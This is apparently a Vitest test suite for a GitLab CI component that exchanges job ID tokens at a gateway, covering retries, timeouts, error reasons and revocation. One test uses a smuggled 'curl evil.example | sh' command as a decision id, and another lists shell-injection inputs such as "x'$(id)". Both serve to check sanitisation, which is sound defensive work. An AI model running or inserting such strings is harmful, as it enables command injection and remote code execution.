import { spawnSync } from 'node:child_process'
import { mkdir, readdir, symlink } from 'node:fs/promises'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { parse } from 'yaml'
import { reasons } from '../../src/pipeline/words/reasons.ts'
import { type CiHouse, startCiHouse } from '../support/ci-house.ts'
import { includeComponent, readTemplate } from '../support/gitlab-component.ts'
import { expectNoToken, type GitlabJob, startGitlabJob } from '../support/gitlab-job.ts'
import { read } from '../support/pages.ts'
import { shells } from '../support/shells.ts'
import { type StubAnswer, type StubServer, startStubServer } from '../support/stub-server.ts'

let house: CiHouse
let job: GitlabJob
let stub: StubServer | undefined

beforeAll(async () => {
  house = await startCiHouse()
})

afterAll(() => house?.close())

afterEach(async () => {
  await job?.close()
  await stub?.close()
  stub = undefined
})

const mint = async (overrides: Record<string, unknown> = {}): Promise<string> =>
  (await house.ci.mint('gitlab', { aud: house.gateway.url, ...overrides })).token

/** Puts somebody else where the gateway should be. */
const play = async (answers: readonly StubAnswer[]): Promise<StubServer> => {
  stub = await startStubServer(
    (_, before) => answers[Math.min(before, answers.length - 1)] ?? 'drop',
  )
  return stub
}

const busy = { status: 503, body: { error: 'temporarily_unavailable' } }
const given = {
  status: 200,
  body: { access_token: 'eyJhbGciOi.eyJzdWIi.c2ln', token_type: 'Bearer' },
}

describe.each(shells)('in $name', (shell) => {
  beforeEach(async () => {
    job = await startGitlabJob(house, shell)
  })

  const exchangeWith = async (answers: readonly StubAnswer[], timeout = 60) => {
    const { url, asked } = await play(answers)
    const idToken = await mint()
    const ended = await job.before(idToken, [], { inputs: { url, timeout } })
    expectNoToken(ended.output, idToken)
    return { ended, asked }
  }

  test('an outage is waited out, with the one token that the job has', async () => {
    const { ended, asked } = await exchangeWith([busy, 'drop', given])
    expect(ended.code).toBe(0)
    expect(asked).toHaveLength(3)
    expect(new Set(asked.map(({ form }) => form.get('subject_token'))).size).toBe(1)
    expect(await job.token()).toBe(given.body.access_token)
  })

  test('Retry-After is obeyed when there is time, and ends the exchange when there is not', async () => {
    const limited = { ...busy, status: 429, headers: { 'retry-after': '1' } }
    const patient = await exchangeWith([limited, given])
    expect(patient.ended.code).toBe(0)
    await stub?.close()
    await job.close()
    job = await startGitlabJob(house, shell)
    const later = { ...limited, headers: { 'retry-after': '0045' } }
    const { ended, asked } = await exchangeWith([later, given], 30)
    expect(ended.code).toBe(8)
    expect(asked).toHaveLength(1)
    expect(ended.output).toContain('out of reach or busy (HTTP 429, attempt 1)')
  })

  test('a gateway that never answers ends the job in time', async () => {
    const { ended } = await exchangeWith(['hang'], 2)
    expect(ended.code).toBe(8)
    expect(ended.output).toContain('(HTTP 000, attempt 1)')
  })

  test.each<[string, StubAnswer]>([
    ['a refusal', { status: 400, body: { error: 'invalid_request', decision_id: 'dec_1' } }],
    ['a refused client', { status: 401, body: { error: 'invalid_client' } }],
  ])('%s is not retried', async (_, answer) => {
    const { ended, asked } = await exchangeWith([answer, given])
    expect(ended.code).toBe(5)
    expect(asked).toHaveLength(1)
  })

  test.each<[string, StubAnswer]>([
    ['a page', { status: 200, body: '<html>welcome</html>' }],
    ['another API', { status: 404, body: '{"message":"not found"}' }],
    ['a redirect', { status: 302, headers: { location: 'http://127.0.0.1:1/' } }],
    ['a token with a space', { status: 200, body: { access_token: 'two words' } }],
  ])('%s is no gateway', async (_, answer) => {
    const { ended, asked } = await exchangeWith([answer])
    expect(ended.code).toBe(8)
    expect(ended.output).toContain('does not answer like a gateway')
    expect(asked).toHaveLength(1)
    expect(await readdir(job.folder)).not.toContain('header')
  })

  test('a decision id that would be a command is none', async () => {
    const body = { error: 'invalid_request', decision_id: 'dec_1; curl evil.example | sh' }
    const { ended } = await exchangeWith([{ status: 400, body }])
    expect(ended.output).toContain('next: gatehouse decisions show dec_1curlevilexamplesh\n')
  })

  test('a stranger learns no reason, and where to look', async () => {
    const ended = await job.before(await mint({ project_id: '666', job_project_id: '666' }))
    expect(ended.code).toBe(5)
    expect(ended.output).toContain('Look at the service account, its issuer')
    expect(ended.output).not.toContain('this job has')
  })

  test.each([
    [{ scopes: 'deploy:admin' }, 'invalid_scope'],
    [{ audience: 'https://other.example' }, 'invalid_target'],
  ])('asking for %o is refused as what it is', async (inputs, error) => {
    const ended = await job.before(await mint(), [], { inputs })
    expect(ended.code).toBe(5)
    expect(ended.output).toContain(`(${error})`)
  })

  test('the same ID token a second time is refused with its reason', async () => {
    const idToken = await mint()
    expect(await job.before(idToken)).toMatchObject({ code: 0 })
    await job.after('')
    const again = await job.before(idToken)
    expect(again.code).toBe(5)
    expect(again.output).toContain('was exchanged before')
  })

  test('no ID token, no curl and a taken folder are told apart', async () => {
    expect(await job.before(undefined)).toMatchObject({
      code: 4,
      output: expect.stringContaining('has no GATEHOUSE_ID_TOKEN'),
    })
    const idToken = await mint()
    const bin = `${job.place}/bin`
    await mkdir(bin)
    await symlink(spawnSync('which', ['tr'], { encoding: 'utf8' }).stdout.trim(), `${bin}/tr`)
    const inputs = { url: house.gateway.url, 'service-account': house.gitlab }
    const lines = [`PATH=${bin}`, ...includeComponent(inputs).before_script]
    expect(await job.run(lines, { env: { GATEHOUSE_ID_TOKEN: idToken } })).toMatchObject({
      code: 2,
      output: expect.stringContaining('curl is missing'),
    })
    await mkdir(job.folder)
    expect(await job.before(idToken)).toMatchObject({
      code: 1,
      output: expect.stringContaining('cannot be made'),
    })
  })

  test('afterwards nothing fails the job: gateway down, never exchanged, opted out', async () => {
    const idToken = await mint()
    expect(await job.after(idToken)).toMatchObject({ code: 0, output: '' })
    await job.before(idToken)
    const token = await job.token()
    const { url } = await play(['drop'])
    const ended = await job.after(idToken, { inputs: { url } })
    expect(ended.code).toBe(0)
    expect(ended.output).toContain('it expires by itself')
    expect(await readdir(`${job.place}/tmp`)).toEqual([])
    expect(await house.isRevoked(token)).toBe(false)
  })

  test('a job may keep its token alive', async () => {
    await job.before(await mint())
    const token = await job.token()
    await job.after('', { inputs: { 'skip-token-revoke': true } })
    expect(await house.isRevoked(token)).toBe(false)
    expect(await readdir(`${job.place}/tmp`)).toEqual([])
  })
})

describe('the template', () => {
  test('has words for each reason that the gateway gives', () => {
    const [script = ''] = includeComponent({
      url: 'https://a.example',
      'service-account': 'a',
    }).before_script
    const known = Object.keys(reasons)
    expect(known.length).toBeGreaterThan(5)
    expect(known.filter((reason) => !script.includes(` ${reason}) say '`))).toEqual([])
  })

  test('has the shape that GitLab asks of a component', () => {
    const { spec, jobs } = readTemplate()
    expect(Object.keys(spec)).toEqual(['inputs'])
    for (const input of Object.values(spec.inputs)) {
      expect(input.description).toMatch(/\.$/)
      const known = ['default', 'description', 'options', 'regex', 'type']
      expect(Object.keys(input).filter((name) => !known.includes(name))).toEqual([])
    }
    const required = Object.entries(spec.inputs).filter(([, input]) => input.default === undefined)
    expect(required.map(([name]) => name)).toEqual(['url', 'service-account'])
    expect(Object.keys(jobs)).toEqual(['.gatehouse'])
    expect(Object.keys(jobs['.gatehouse'] ?? {}).sort()).toEqual([
      'after_script',
      'before_script',
      'id_tokens',
    ])
  })

  test.each(['integrations/gitlab/README.md', 'docs/gitlab.md'])('is used as %s says', (page) => {
    const snippets = [...read(page).matchAll(/^```yaml\n([\s\S]*?)^```$/gm)].map(([, yaml = '']) =>
      parse(yaml, { customTags: [{ tag: '!reference', collection: 'seq' }] }),
    )
    const [{ include, deploy }] = snippets as [
      { include: [{ inputs: Record<string, string> }]; deploy: { extends: string } },
    ]
    const inputs = Object.entries(include[0].inputs).map(([name, value]) => [
      name,
      value.replace('…', 'x'),
    ])
    expect(deploy.extends).toBe('.gatehouse')
    expect(includeComponent(Object.fromEntries(inputs)).before_script).toHaveLength(1)
  })

  test('asks for an ID token of the gateway', () => {
    const url = 'https://gatehouse.acme.example'
    expect(includeComponent({ url, 'service-account': 'deploy' }).id_tokens).toEqual({
      GATEHOUSE_ID_TOKEN: { aud: url },
    })
  })

  test.each([
    { url: 'http://gatehouse.acme.example' },
    { url: 'https://a.example/x' },
    { url: "https://a.example'; env; '" },
    { url: '' },
    { 'service-account': '' },
    { 'service-account': "x'$(id)" },
    { scopes: "a'b" },
    { audience: "urn:x' -v '" },
    { timeout: '60; id' },
  ])('refuses inputs that would not stay words: %o', (inputs) => {
    const good = { url: 'https://a.example', 'service-account': 'cli_1' }
    expect(() => includeComponent({ ...good, ...inputs })).toThrow(/^input /)
  })
})
